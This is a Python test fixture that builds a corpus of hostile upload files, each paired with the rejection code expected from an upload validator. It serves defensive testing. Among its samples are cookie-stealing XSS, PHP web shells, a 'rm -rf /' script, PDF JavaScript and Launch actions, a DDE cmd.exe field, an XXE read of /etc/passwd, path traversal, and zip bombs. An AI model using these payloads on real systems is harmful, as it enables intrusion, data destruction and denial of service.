"""The hostile corpus: label, name, bytes, and the code each is refused with."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from typing import NamedTuple

from sundial.cases.tests.uploads import (
    EICAR,
    OFFICE,
    docx,
    jpeg,
    ofd,
    package,
    pdf,
    pdf_stream,
    png,
    png_chunk,
    relations,
    xlsx,
)

SCRIPT = b"<script>alert(document.cookie)</script>"
JS_ACTION = b"8 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"


class Hostile(NamedTuple):
    label: str
    name: str
    make: Callable[[], bytes]
    code: str


def link(target: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(target)
    info.external_attr = 0o120777 << 16
    return info


def lying_bomb() -> bytes:
    """A part that says it is small: the sizes in its headers are set to 10 bytes."""
    data = bytearray(docx(("word/media/huge.xml", b"<a>" + b"A" * 60_000_000)))
    for head, at in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        start = 0
        while (start := data.find(head, start)) >= 0:
            size = struct.unpack_from("<I", data, start + at)[0]
            if size > 1_000_000:
                struct.pack_into("<I", data, start + at, 10)
            start += 4
    return bytes(data)


def overlapping() -> bytes:
    """Many names in the directory for one entry's bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as box:
        box.writestr("word/document.xml", b"<w/>")
        box.writestr("word/a.xml", b"<a>" + b"A" * 100_000)
        first = box.getinfo("word/a.xml")
        for n in range(50):
            twin = zipfile.ZipInfo(f"word/b{n}.xml")
            twin.header_offset, twin.compress_type = first.header_offset, first.compress_type
            twin.compress_size, twin.file_size, twin.CRC = first.compress_size, first.file_size, first.CRC
            box.filelist.append(twin)
            box.NameToInfo[twin.filename] = twin
    return out.getvalue()


def encrypted_zip() -> bytes:
    data = bytearray(docx())
    for head, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        start = 0
        while (start := data.find(head, start)) >= 0:
            data[start + at] |= 1
            start += 4
    return bytes(data)


def zip_of(name: str) -> tuple[str, bytes]:
    return name, package([("inside.txt", b"inside")])


MORE_RELS = "word/_rels/document.xml.rels"

CORPUS = [
    # Not what it says, or nothing
    Hostile("empty", "a.pdf", lambda: b"", "empty"),
    Hostile("one byte", "a.pdf", lambda: b"%", "type"),
    Hostile("zeros", "a.pdf", lambda: bytes(4096), "type"),
    Hostile("program named PDF", "申请书.pdf", lambda: b"MZ\x90\0" + bytes(500), "type"),
    Hostile("ELF program", "photo.png", lambda: b"\x7fELF" + bytes(500), "type"),
    Hostile("shell script", "a.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", "type"),
    Hostile("PHP named JPG", "a.jpg", lambda: b"<?php system($_GET['c']); ?>", "type"),
    Hostile("HTML named PDF", "a.pdf", lambda: b"<!DOCTYPE html><html>" + SCRIPT, "type"),
    Hostile("HTML", "a.html", lambda: b"<html>" + SCRIPT, "type"),
    Hostile("SVG with script", "a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "type"),
    Hostile("SVG named PNG", "a.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "type"),
    Hostile("JavaScript", "a.js", lambda: b"alert(1)", "type"),
    Hostile("plain zip", "材料.zip", lambda: package([("a.txt", b"a")]), "type"),
    Hostile("zip named DOCX", "a.docx", lambda: package([("a.txt", b"a")]), "type"),
    Hostile("JAR named DOCX", "a.docx", lambda: package([("META-INF/MANIFEST.MF", b""), ("A.class", b"\xca\xfe\xba\xbe")]), "type"),
    Hostile("two packages in one", "a.docx", lambda: docx(("xl/workbook.xml", b"<workbook/>")), "type"),
    Hostile("old Word, may hold macros", "a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "type"),
    Hostile("RAR", "a.rar", lambda: b"Rar!\x1a\x07\x00" + bytes(60), "type"),
    Hostile("GIF", "a.gif", lambda: b"GIF89a" + bytes(60), "type"),
    Hostile("EICAR", "a.com", lambda: EICAR, "malware"),
    Hostile("EICAR in a PDF", "a.pdf", lambda: pdf(pdf_stream(EICAR, b"", pack=False)), "malware"),
    Hostile("EICAR in a DOCX", "a.docx", lambda: docx(("word/media/a.txt", EICAR)), "malware"),
    # Names against bytes
    Hostile("PDF named EXE", "a.exe", pdf, "extension"),
    Hostile("PDF named JPG", "a.jpg", pdf, "extension"),
    Hostile("two extensions", "a.pdf.exe", pdf, "extension"),
    Hostile("no extension", "申请书", pdf, "extension"),
    Hostile("name written backwards", "a\u202efdp.exe", pdf, "extension"),
    Hostile("name cut by a zero", "a.exe\0.pdf ", lambda: b"MZ\x90\0" + bytes(50), "type"),
    Hostile("XLSX named DOCX", "a.docx", xlsx, "extension"),
    # PDF
    Hostile("truncated PDF", "a.pdf", lambda: pdf()[:200], "damaged"),
    Hostile("PDF with JavaScript", "a.pdf", lambda: pdf(JS_ACTION, catalog=b"/OpenAction 8 0 R"), "active"),
    Hostile("PDF with escaped JavaScript", "a.pdf", lambda: pdf(b"8 0 obj\n<< /S /J#61vaScript /#4aS (x) >>\nendobj\n"), "active"),
    Hostile("PDF with /JS alone", "a.pdf", lambda: pdf(b"8 0 obj\n<< /JS 9 0 R >>\nendobj\n"), "active"),
    Hostile("PDF that launches", "a.pdf", lambda: pdf(b"8 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), "active"),
    Hostile("PDF with a file inside", "a.pdf", lambda: pdf(pdf_stream(b"MZ", b"/Type /EmbeddedFile /Filter /FlateDecode")), "active"),
    Hostile("PDF with JavaScript in an object stream", "a.pdf", lambda: pdf(pdf_stream(b"8 0 " + JS_ACTION, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")), "active"),
    Hostile("PDF with an unreadable object stream", "a.pdf", lambda: pdf(pdf_stream(JS_ACTION, b"/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]")), "unreadable"),
    Hostile("PDF with a broken object stream", "a.pdf", lambda: pdf(pdf_stream(b"no zlib", b"/Type /ObjStm /Filter /FlateDecode", pack=False)), "damaged"),
    Hostile("PDF bomb", "a.pdf", lambda: pdf(pdf_stream(bytes(210_000_000), b"/Type /ObjStm /Filter /FlateDecode")), "bomb"),
    Hostile("PDF that fetches a PDF", "a.pdf", lambda: pdf(b"8 0 obj\n<< /S /GoToE /F (http://x) >>\nendobj\n"), "active"),
    Hostile("PDF form sent elsewhere", "a.pdf", lambda: pdf(b"8 0 obj\n<< /S /SubmitForm /F (http://x) >>\nendobj\n"), "active"),
    Hostile("PDF with rich media", "a.pdf", lambda: pdf(b"8 0 obj\n<< /Subtype /RichMedia >>\nendobj\n"), "active"),
    Hostile("PDF with XFA", "a.pdf", lambda: pdf(catalog=b"/AcroForm << /XFA 9 0 R >>"), "active"),
    Hostile("PDF with a password", "a.pdf", lambda: pdf(b"7 0 obj\n<< /Encrypt 6 0 R >>\nendobj\n"), "encrypted"),
    Hostile("PDF and zip in one", "a.pdf", lambda: pdf(tail=package([("a.class", b"\xca\xfe")])), "holds_another"),
    Hostile("PDF and HTML in one", "a.pdf", lambda: pdf(tail=SCRIPT * 60), "holds_another"),
    Hostile("HTML before a PDF", "a.pdf", lambda: SCRIPT + pdf(), "type"),
    # Pictures
    Hostile("truncated PNG", "a.png", lambda: png()[:40], "damaged"),
    Hostile("truncated JPG", "a.jpg", lambda: jpeg()[:-2], "damaged"),
    Hostile("JPG of nothing but its head", "a.jpg", lambda: b"\xff\xd8\xff\xe0", "damaged"),
    Hostile("JPG whose lengths lie", "a.jpg", lambda: b"\xff\xd8\xff\xe0\xff\xff" + bytes(30), "damaged"),
    Hostile("picture of no size", "a.png", lambda: png(0, 0), "damaged"),
    Hostile("picture too large to open", "a.png", lambda: png(60_000, 60_000), "too_many_pixels"),
    Hostile("JPG too large to open", "a.jpg", lambda: jpeg(65_000, 65_000), "too_many_pixels"),
    Hostile("PNG and zip in one", "a.png", lambda: png(tail=package([("a.txt", b"a")])), "holds_another"),
    Hostile("JPG and PDF in one", "a.jpg", lambda: jpeg(tail=pdf()), "holds_another"),
    Hostile("JPG with script in a comment", "a.jpg", lambda: jpeg(comment=SCRIPT), "holds_another"),
    Hostile("PNG with PHP in a text", "a.png", lambda: png(extra=png_chunk(b"tEXt", b"c\0<?php eval($_GET[1]);?>")), "holds_another"),
    # Packages
    Hostile("truncated DOCX", "a.docx", lambda: docx()[:-30], "type"),
    Hostile("DOCX cut in the middle", "a.docx", lambda: docx()[: len(docx()) // 2] + docx()[-22:], "type"),
    Hostile("DOCX with a flipped byte", "a.docx", lambda: flipped(docx(body=b"<w:t>abc</w:t>" * 50)), "damaged"),
    Hostile("DOCX with macros", "a.docx", lambda: docx(("word/vbaProject.bin", b"\0")), "macro"),
    Hostile("DOCX with macros, other case", "a.docx", lambda: docx(("word/VBAPROJECT.BIN", b"\0")), "macro"),
    Hostile("DOCM named DOCX", "a.docx", lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macro"),
    Hostile("XLSM named XLSX", "a.xlsx", lambda: xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macro"),
    Hostile("XLSX with ActiveX", "a.xlsx", lambda: xlsx(("xl/activeX/activeX1.bin", b"\0")), "macro"),
    Hostile("XLSX with Excel 4 macros", "a.xlsx", lambda: xlsx(("xl/macrosheets/sheet1.xml", b"<a/>")), "macro"),
    Hostile("XLSX with external links", "a.xlsx", lambda: xlsx(("xl/externalLinks/externalLink1.xml", b"<a/>")), "macro"),
    Hostile("DOCX with a template elsewhere", "a.docx", lambda: docx((MORE_RELS, relations((f"{OFFICE}/attachedTemplate", "http://x/t.dotm", "External")))), "external"),
    Hostile("DOCX with a picture elsewhere", "a.docx", lambda: docx((MORE_RELS, relations((f"{OFFICE}/image", r"\\10.0.0.1\s\a.png", "External")))), "external"),
    Hostile("DOCX with a link to a file", "a.docx", lambda: docx((MORE_RELS, relations((f"{OFFICE}/hyperlink", "file:///c:/windows/calc.exe", "External")))), "external"),
    Hostile("DOCX with a script link", "a.docx", lambda: docx((MORE_RELS, relations((f"{OFFICE}/hyperlink", "javascript:alert(1)", "EXTERNAL")))), "external"),
    Hostile("DOCX with DDE", "a.docx", lambda: docx(body=b"<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText>"), "external"),
    Hostile("DOCX with an OLE object", "a.docx", lambda: docx(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")), "nested"),
    Hostile("DOCX with a program inside", "a.docx", lambda: docx(("word/media/a.png", b"MZ\x90\0" + bytes(90))), "nested"),
    Hostile("DOCX with a zip inside", "a.docx", lambda: docx(zip_of("word/embeddings/a.xlsx")), "nested"),
    Hostile("OFD with an archive inside", "a.ofd", lambda: ofd(zip_of("Doc_0/Attachs/a.zip")), "nested"),
    Hostile("DOCX with entities", "a.docx", lambda: docx(("word/styles.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')), "unreadable"),
    Hostile("OFD with entities", "a.ofd", lambda: ofd(("Doc_0/a.xml", b'<!DOCTYPE lolz [<!ENTITY lol "lol">]><lolz/>')), "unreadable"),
    Hostile("DOCX in another encoding", "a.docx", lambda: docx((MORE_RELS, relations((f"{OFFICE}/image", "http://x", "External")).decode().replace("UTF-8", "UTF-16").encode("utf-16"))), "unreadable"),
    Hostile("DOCX with broken relationships", "a.docx", lambda: docx((MORE_RELS, b"<Relationships><a>")), "damaged"),
    Hostile("part outside", "a.docx", lambda: docx(("../../etc/cron.d/x", b"x")), "path"),
    Hostile("part at the root", "a.docx", lambda: docx(("/etc/passwd", b"x")), "path"),
    Hostile("part on a drive", "a.docx", lambda: docx(("C:/windows/x", b"x")), "path"),
    Hostile("part with backslashes", "a.docx", lambda: docx(("..\\..\\x", b"x")), "path"),
    Hostile("symbolic link", "a.docx", lambda: docx((link("word/media/l"), b"/etc/passwd")), "path"),
    Hostile("zip bomb", "a.docx", lambda: docx(("word/media/huge.xml", b"<a>" + b"A" * 60_000_000)), "bomb"),
    Hostile("zip bomb in a part of structure", "a.docx", lambda: docx((MORE_RELS, b"<a>" + b" " * 3_000_000 + b"</a>")), "bomb"),
    Hostile("zip bomb that lies about its size", "a.docx", lying_bomb, "damaged"),
    Hostile("overlapping parts", "a.docx", overlapping, "bomb"),
    Hostile("too many parts", "a.docx", lambda: docx(*((f"word/{n}.xml", b"<a/>") for n in range(1001))), "bomb"),
    Hostile("one name twice", "a.docx", lambda: docx(("word/A.xml", b"<a/>"), ("word/a.xml", b"<b/>")), "bomb"),
    Hostile("DOCX with a password", "a.docx", encrypted_zip, "encrypted"),
    Hostile("program before a DOCX", "a.docx", lambda: docx(head=b"MZ\x90\0" + bytes(200)), "type"),
    Hostile("DOCX behind a fake start", "a.docx", lambda: docx(head=b"PK\3\4" + bytes(200)), "holds_another"),
    Hostile("DOCX with a tail", "a.docx", lambda: docx(tail=SCRIPT), "holds_another"),
    Hostile("DOCX with an odd packing", "a.docx", lambda: odd_packing(), "unreadable"),
]  # fmt: skip


def flipped(data: bytes) -> bytes:
    at = data.index(b"word/document.xml") + 40
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


def odd_packing() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as box:
        box.writestr("word/b.xml", b"<a/>" * 50, compress_type=zipfile.ZIP_BZIP2)
    return out.getvalue()
